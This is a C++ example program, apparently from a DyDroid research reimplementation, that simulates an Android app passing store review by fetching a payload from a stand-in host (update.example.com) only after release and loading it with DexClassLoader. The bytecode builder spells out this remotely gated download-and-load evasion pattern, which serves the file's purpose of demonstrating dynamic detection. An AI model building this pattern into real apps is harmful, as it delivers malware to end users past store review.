// The Bouncer-evasion experiment (paper §III-B(a)).
//
// App_M is known malware (Swiss code monkeys): submitted directly, the
// store's scanner (MiniDroidNative over the static APK) rejects it.
// App_L contains no malicious code — it asks a server for a payload link at
// runtime. During review the server refuses; App_L passes and is published.
// After release the server turns delivery on and App_L loads App_M on end
// users' devices. DyDroid's dynamic interception catches what the static
// review could not.
#include <cstdio>

#include "core/pipeline.hpp"
#include "dex/builder.hpp"
#include "malware/families.hpp"

using namespace dydroid;

namespace {

/// Train the store's scanner and DyDroid's detector the same way.
malware::DroidNative make_scanner() {
  malware::DroidNative scanner(0.9);
  support::Rng rng(11);
  for (int f = 0; f < malware::kNumFamilies; ++f) {
    const auto family = malware::family_at(f);
    for (const auto& s : malware::generate_training_samples(family, 4, rng)) {
      scanner.train(malware::family_name(family), s);
    }
  }
  return scanner;
}

/// App_L: downloads a payload URL and DexClassLoader-loads it.
apk::ApkFile build_app_l(const std::string& url) {
  manifest::Manifest man;
  man.package = "com.example.appl";
  man.add_permission(manifest::kInternet);
  man.add_permission(manifest::kWriteExternalStorage);
  man.components.push_back(manifest::Component{
      manifest::ComponentKind::Activity, "com.example.appl.Main", true});

  dex::DexBuilder b;
  auto m = b.cls("com.example.appl.Main", "android.app.Activity")
               .method("onCreate", 1);
  // Ask the server; if it refuses (review time), do nothing malicious.
  m.new_instance(1, "java.net.URL");
  m.const_str(2, url);
  m.invoke_virtual("java.net.URL", "<init>", {1, 2});
  m.invoke_virtual("java.net.URL", "openConnection", {1});
  m.move_result(3);
  m.invoke_virtual("java.net.HttpURLConnection", "getResponseCode", {3});
  m.move_result(4);
  m.const_int(5, 200);
  m.cmp_eq(6, 4, 5);
  m.if_eqz(6, "benign");
  // Server says go: download & load App_M.
  m.invoke_virtual("java.net.URLConnection", "getInputStream", {3});
  m.move_result(7);
  m.new_instance(8, "java.io.FileOutputStream");
  m.const_str(9, "/data/data/com.example.appl/cache/appm.dex");
  m.invoke_virtual("java.io.FileOutputStream", "<init>", {8, 9});
  m.label("copy");
  m.invoke_virtual("java.io.InputStream", "read", {7});
  m.move_result(10);
  m.if_eqz(10, "load");
  m.invoke_virtual("java.io.OutputStream", "write", {8, 10});
  m.jump("copy");
  m.label("load");
  m.new_instance(11, "dalvik.system.DexClassLoader");
  m.const_str(12, "/data/data/com.example.appl/cache");
  m.invoke_virtual("dalvik.system.DexClassLoader", "<init>", {11, 9, 12});
  m.label("benign");
  m.return_void();
  m.done();

  apk::ApkFile apk;
  apk.write_manifest(man);
  apk.write_classes_dex(b.build());
  apk.sign("appl-dev");
  return apk;
}

core::AppReport run(const apk::ApkFile& apk, const malware::DroidNative* det,
                    bool server_delivers, const support::Bytes& payload) {
  core::PipelineOptions options;
  options.detector = det;
  const core::DyDroid pipeline(std::move(options));
  // At review time the server withholds the payload: the URL is not hosted.
  os::Scenario scenario;
  if (server_delivers) {
    scenario.hosted_urls.emplace_back("http://update.example.com/payload",
                                      support::Blob::copy_of(payload));
  }
  core::AnalysisRequest request;
  request.apk = support::Blob::take(apk.serialize());
  request.seed = 7;
  request.scenario_setup = &scenario;
  return pipeline.analyze(request);
}

}  // namespace

int main() {
  const auto scanner = make_scanner();
  support::Rng rng(5);
  const auto app_m = malware::generate_payload(
      malware::Family::SwissCodeMonkeys, malware::PayloadOptions{}, rng);

  // 1. Submitting App_M directly: the store's static scan rejects it.
  const auto direct = scanner.scan(app_m);
  std::printf("App_M direct submission: %s\n",
              direct ? ("REJECTED (" + direct->family + ")").c_str()
                     : "accepted (?!)");

  // 2. App_L at review time: server withholds the payload.
  const auto app_l = build_app_l("http://update.example.com/payload");
  const auto review = run(app_l, &scanner, /*server_delivers=*/false, app_m);
  std::printf("App_L during review: status=%s, malware found=%zu -> %s\n",
              std::string(core::dynamic_status_name(review.status)).c_str(),
              review.malware_loaded().size(),
              review.malware_loaded().empty() ? "APPROVED" : "rejected");

  // 3. App_L after release: server delivers; DyDroid intercepts & flags.
  const auto released = run(app_l, &scanner, /*server_delivers=*/true, app_m);
  std::printf("App_L after release: status=%s\n",
              std::string(core::dynamic_status_name(released.status)).c_str());
  for (const auto* hit : released.malware_loaded()) {
    std::printf("  DyDroid intercepted %s -> %s (score %.2f), origin %s\n",
                hit->binary.path.c_str(), hit->malware->family.c_str(),
                hit->malware->score,
                hit->origin_url ? hit->origin_url->c_str() : "local");
  }
  std::printf(
      "\nConclusion: static review cannot see remotely gated payloads; \n"
      "dynamic interception with download tracking can (paper §III-B).\n");
  return 0;
}
